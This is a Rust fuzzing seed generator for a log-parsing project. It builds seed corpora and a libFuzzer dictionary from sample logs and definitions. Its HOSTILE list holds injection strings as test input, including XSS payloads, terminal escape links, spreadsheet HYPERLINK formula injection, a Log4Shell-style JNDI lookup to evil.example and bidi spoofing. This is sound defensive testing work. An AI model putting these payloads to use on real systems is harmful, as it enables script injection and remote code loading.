//! First inputs of each target, made of what the project has anyway: the definitions' own samples, the recordings in `samples/`, the definitions as texts.

use fivexx::parser::definition::Kind;
use fivexx::partial::Scanned;
use flate2::read::MultiGzDecoder;
use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::{self, Read};
use std::path::{Path, PathBuf};

use crate::common::{catalog, sample_logs, scan};
use crate::envelopes;
use crate::rows::partial;

/// What a recording's file gives to a seed.
const EXCERPT: usize = 3000;

/// Writes the seeds of a target, and a dictionary beside the folder; says how many there are.
///
/// # Errors
/// The folder cannot be written, or the recordings cannot be read.
pub fn write(target: &str, folder: &Path) -> io::Result<usize> {
    fs::create_dir_all(folder)?;
    let seeds = seeds(target)?;
    for (i, seed) in seeds.iter().enumerate() {
        fs::write(folder.join(format!("seed-{i:04}")), seed)?;
    }
    fs::write(folder.with_extension("dict"), dictionary())?;
    Ok(seeds.len())
}

fn seeds(target: &str) -> io::Result<Vec<Vec<u8>>> {
    let headed = |head: &[u8], text: &[u8]| [head, text].concat();
    let logs = || sample_logs().iter().map(|(_, lines)| lines.join("\n") + "\n");
    let lines = || sample_logs().iter().flat_map(|(_, lines)| lines.iter().map(|l| (*l).to_owned() + "\n"));
    Ok(match target {
        "formats" => {
            lines().chain(logs()).map(String::into_bytes).chain(recordings()?.into_iter().map(|r| r.join(&0x1c))).collect()
        }
        "chunks" => {
            let cuts = [7, 0, 40, 0, 99, 0, 200, 0, 255, 3];
            let texts = lines().chain(logs()).map(String::into_bytes).chain(recordings()?.into_iter().flatten());
            texts.map(|t| headed(&cuts, &t)).collect()
        }
        "envelopes" => {
            let count = envelopes::samples().len();
            let around = |i: usize| {
                let at = envelopes::samples()[i % count].len() / 2;
                [(i % count) as u8, at as u8, (at >> 8) as u8, count as u8, 0, 0]
            };
            lines().enumerate().map(|(i, l)| headed(&around(i), l.as_bytes())).collect()
        }
        "definitions" => {
            let mut all = Vec::new();
            for file in files(&["parsers", "causes", "redaction", "tests/broken"])? {
                all.extend(small_definitions(&fs::read_to_string(file)?));
            }
            all
        }
        "metrics" => {
            let mut all: Vec<Vec<u8>> = Vec::new();
            for file in files(&["samples", "tests/metrics"])?.iter().filter(|f| f.ends_with("cloudwatch.json")) {
                all.push(fs::read(file)?);
            }
            let saved = catalog().of_kind(Kind::Cloudwatch).flat_map(|(_, f)| f.definition.samples.iter());
            all.extend(saved.map(|s| s.line.clone().into_bytes()));
            all.extend(MATRICES.map(|m| m.as_bytes().to_vec()));
            all
        }
        "clocks" => {
            let zones =
                ["", "UTC", "+09:00", "Europe/Berlin", "uwsgi=America/New_York", "*.log=Asia/Tokyo", "2026-03-29T02:30:00+01:00"];
            let begins = [1_795_219_200_i32, 1_774_746_000, 1_792_890_000, 0, i32::MAX, i32::MIN];
            let shifts = [0_i32, 32_400, -18_000, 32_437, 3600];
            let mut all = Vec::new();
            for (i, begin) in begins.iter().cycle().take(30).enumerate() {
                let mut seed = [begin.to_le_bytes(), shifts[i % 5].to_le_bytes()].concat();
                seed.extend((i as i16 * 20).to_le_bytes());
                seed.extend(zones[i % 7].as_bytes());
                seed.push(b'\n');
                // Gaps without a pattern, so that logs can be told to be the same.
                seed.extend(
                    (0..200_u32).flat_map(|n| [(n.wrapping_mul(2_654_435_761) >> 27) as u8 + 1, (n * 37 % 256) as u8 & 0xe8]),
                );
                all.push(seed);
            }
            all
        }
        "partials" => sample_logs()
            .iter()
            .map(|(name, lines)| partial(name, &[Scanned::Whole(scan([lines.join("\n").as_bytes()]))]))
            .collect(),
        "rows" => (0..=255_u32)
            .map(|i| {
                (0..40)
                    .map(|n| if n == 0 { i as u8 } else { (i * 40 + n).wrapping_mul(2_654_435_761).to_le_bytes()[2] })
                    .collect()
            })
            .collect(),
        "reports" => HOSTILE
            .iter()
            .enumerate()
            .flat_map(|(i, text)| {
                let all: Vec<u8> = HOSTILE.iter().skip(i).flat_map(|t| [t.as_bytes(), &[0xff]].concat()).collect();
                [headed(&[i as u8, (i / 3) as u8, i as u8, 1], text.as_bytes()), headed(&[0, i as u8, 3, i as u8], &all)]
            })
            .collect(),
        other => return Err(io::Error::other(format!("no seeds of {other}"))),
    })
}

/// An excerpt of each file of each recording, from where something happens: its middle.
fn recordings() -> io::Result<Vec<Vec<Vec<u8>>>> {
    let mut all = Vec::new();
    for folder in fs::read_dir(root().join("samples"))? {
        let mut parts = Vec::new();
        for path in walk(&folder?.path())?.iter().filter(|p| p.extension().is_none_or(|e| e != "json")) {
            let mut text = Vec::new();
            if path.extension().is_some_and(|e| e == "gz") {
                MultiGzDecoder::new(File::open(path)?).read_to_end(&mut text)?;
            } else {
                File::open(path)?.read_to_end(&mut text)?;
            }
            let begin = text.len() / 2 + text[text.len() / 2..].iter().position(|b| *b == b'\n').map_or(0, |n| n + 1);
            let end = (begin + EXCERPT).min(text.len());
            parts.push(text[begin..end].to_vec());
        }
        parts.truncate(4);
        all.push(parts);
    }
    Ok(all)
}

/// A definition is too long for a fuzzer to change all of it: its head and a few of its tables at a time make small ones.
fn small_definitions(text: &str) -> Vec<Vec<u8>> {
    let mut tables: Vec<String> = Vec::new();
    for (i, table) in text.split("\n[[").enumerate() {
        tables.push(if i == 0 { table.to_owned() } else { format!("\n[[{table}") });
    }
    let (head, rest) = tables.split_first().map_or((String::new(), &[][..]), |(h, r)| (h.clone(), r));
    let is_sample = |t: &&String| t.starts_with("\n[[sample]]");
    let (samples, others): (Vec<&String>, Vec<&String>) = rest.iter().partition(is_sample);
    let needed: String =
        others.iter().filter(|t| t.starts_with("\n[[line]]") && t.len() < 1500).take(2).map(|t| t.as_str()).collect();
    let mut all = Vec::new();
    for (i, some) in others.chunks(3).enumerate().step_by(4) {
        let mut small = format!("{head}{needed}");
        some.iter().filter(|t| !needed.contains(t.as_str())).for_each(|t| small.push_str(t));
        samples.iter().cycle().skip(i).take(samples.len().min(2)).for_each(|t| small.push_str(t));
        all.push([small.as_bytes(), b"\n\xffa line\n"].concat());
    }
    all.retain(|s| s.len() < 16_000);
    all
}

/// Every literal that definitions look for.
fn dictionary() -> String {
    let mut words: BTreeSet<&str> =
        ["\\x00", "\\xff", "\\x1b[", "\\xe2\\x80\\xae", "```", "](http://", "www.", "[[line]]", "[[event]]"].into();
    let mut texts: BTreeSet<String> = BTreeSet::new();
    for format in &catalog().formats {
        for e in &format.definition.events {
            texts.extend(e.all.iter().chain(&e.none).chain(&e.starts).cloned());
        }
        let templates = format.definition.lines.iter().filter_map(|l| l.template.as_ref());
        texts.extend(templates.flat_map(|t| t.split(['{', '}']).step_by(2)).map(str::to_owned));
        texts.extend(format.definition.metrics.iter().map(|m| m.name.clone()));
    }
    let quoted: Vec<String> = texts.iter().filter(|t| (2..60).contains(&t.len())).map(|t| escaped(t)).collect();
    words.extend(quoted.iter().map(String::as_str));
    words.iter().map(|w| format!("\"{w}\"\n")).collect()
}

/// As a dictionary of libFuzzer has it.
fn escaped(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b == b'"' || b == b'\\' || !(b' '..=b'~').contains(&b) { format!("\\x{b:02x}") } else { char::from(b).to_string() }
        })
        .collect()
}

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn files(folders: &[&str]) -> io::Result<Vec<PathBuf>> {
    let mut all = Vec::new();
    for folder in folders {
        all.extend(walk(&root().join(folder))?);
    }
    Ok(all)
}

/// The files under a folder, sorted.
fn walk(folder: &Path) -> io::Result<Vec<PathBuf>> {
    let mut all = Vec::new();
    for entry in fs::read_dir(folder)? {
        let path = entry?.path();
        if path.is_dir() {
            all.extend(walk(&path)?);
        } else {
            all.push(path);
        }
    }
    all.sort();
    Ok(all)
}

/// Answers of the Prometheus API.
const MATRICES: [&str; 3] = [
    r#"{"status":"success","data":{"resultType":"matrix","result":[{"metric":{"__name__":"node_netstat_TcpExt_ListenOverflows","instance":"web-1:9100"},"values":[[1795219200,"7"],[1795219215,"7"],[1795219230,"40"]]}]}}"#,
    r#"{"status":"success","data":{"resultType":"vector","result":[{"metric":{"__name__":"nginx_up","instance":"web-1"},"value":[1795219200.781,"0"]}]}}"#,
    r#"{"status":"error","errorType":"bad_data","error":"invalid parameter","data":{"resultType":""}}"#,
];

/// Texts that want to be more than text.
const HOSTILE: [&str; 24] = [
    "\u{1b}[2J\u{1b}]8;;http://evil.example/\u{7}x\u{1b}]8;;\u{7}",
    "\u{9b}2J\u{9d}0;x\u{9c}\u{8}\r\u{7f}\0",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "</code></pre></td></table></svg></style></script><!--",
    "&lt;b&gt;&#60;script&#62;\" onmouseover=\"alert(1)\" x='",
    "]]></text><script>alert(1)</script>",
    "[click](http://evil.example/) ![x](http://evil.example/t.png)",
    "[x]: http://evil.example/ [x][x] [^1] [^1]: x",
    "<http://evil.example/> HTTPS://evil.example www.evil.example a@evil.example ftp://evil.example",
    "`` ` ``` ~~~ ```` `x`",
    "a|b|c\\|d\\\\|e\\",
    "**bold** __b__ ~~no~~ *i* _i_",
    "# evil\n# evil\n\n- x\n1. x\n---\n===",
    "> evil\n    code",
    "$\\href{http://evil.example}{x}$ $$x$$",
    "%%{init: {'theme':'base'}}%%; click A call alert() \"]-->B[\"",
    "\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}\u{200e}\u{61c}",
    "a\u{200b}\u{200d}\u{2060}\u{feff}\u{ad}\u{e0041}b\u{2028}c\u{2029}",
    "<!channel> <!here> <@U024BE7LH> @everyone <http://evil.example|x>",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+1;-1+1;@SUM(1)\t=1,\"",
    "{ $n } {0} %s%n ${jndi:ldap://evil.example/a}",
    "password=hunter2 AKIAIOSFODNN7EXAMPLE 203.0.113.9 a.b@example.com /p?token=abc",
    "日本語の長い長い名前가나다\u{1f468}\u{200d}\u{1f469}e\u{301}",
];
